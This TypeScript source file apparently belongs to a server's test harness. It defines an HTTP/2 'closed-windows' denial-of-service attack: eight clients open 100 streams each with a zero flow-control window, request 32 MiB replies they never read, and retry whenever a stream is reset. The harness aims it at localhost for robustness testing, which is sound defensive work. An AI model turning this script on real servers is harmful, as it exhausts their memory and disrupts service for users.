import { type ClientHttp2Session, connect } from 'node:http2';
import { terrariumGuest } from '../assemble.ts';
import type { Attack } from '../attack.ts';
import { attackerAddress } from '../clients.ts';

const REPLY_PAGES = 512;
const STREAMS = 100;
const CLIENTS = 8;
const RETRY_MS = 50;

/** One connection without a window holds a hundred replies, and takes none of them. */
export const closedWindows: Attack = {
  name: 'closed-windows',
  what: '8 HTTP/2 connections with 100 streams and a window of 0, 32 MiB a reply',
  needsTls: true,
  async prepare(stage) {
    const bytes = REPLY_PAGES * 65_536;
    const body = `(drop (call $body (i32.const 0) (i32.const 0) (i32.const ${bytes})))`;
    stage.put('mallory', 'large.wasm', await terrariumGuest(body, '', REPLY_PAGES));
    stage.name('mallory.example', 'mallory');
  },
  async attack({ tlsPort }, signal) {
    const attacker = async (client: number): Promise<void> => {
      while (!signal.aborted) {
        const session = connect(`https://127.0.0.1:${tlsPort}`, {
          ...{ servername: 'mallory.example', rejectUnauthorized: false },
          ...{ localAddress: attackerAddress(client), settings: { initialWindowSize: 0 } },
        });
        const over = new Promise((resolve) => session.once('close', resolve));
        session.on('error', () => session.destroy());
        signal.addEventListener('abort', () => session.destroy());
        for (let stream = 0; stream < STREAMS; stream += 1) keepAsking(session, signal);
        await over;
        await new Promise((resolve) => setTimeout(resolve, RETRY_MS));
      }
    };
    await Promise.all(Array.from({ length: CLIENTS }, (_, client) => attacker(client)));
  },
};

/** Asks anew whenever the stream was cut. */
function keepAsking(session: ClientHttp2Session, signal: AbortSignal): void {
  if (session.destroyed || session.closed || signal.aborted) return;
  const stream = session.request({ ':path': '/large.wasm', ':authority': 'mallory.example' });
  // Being reset is what attackers are used to.
  stream.on('error', () => stream.close());
  stream.on('close', () => setTimeout(() => keepAsking(session, signal), RETRY_MS));
  stream.end();
}
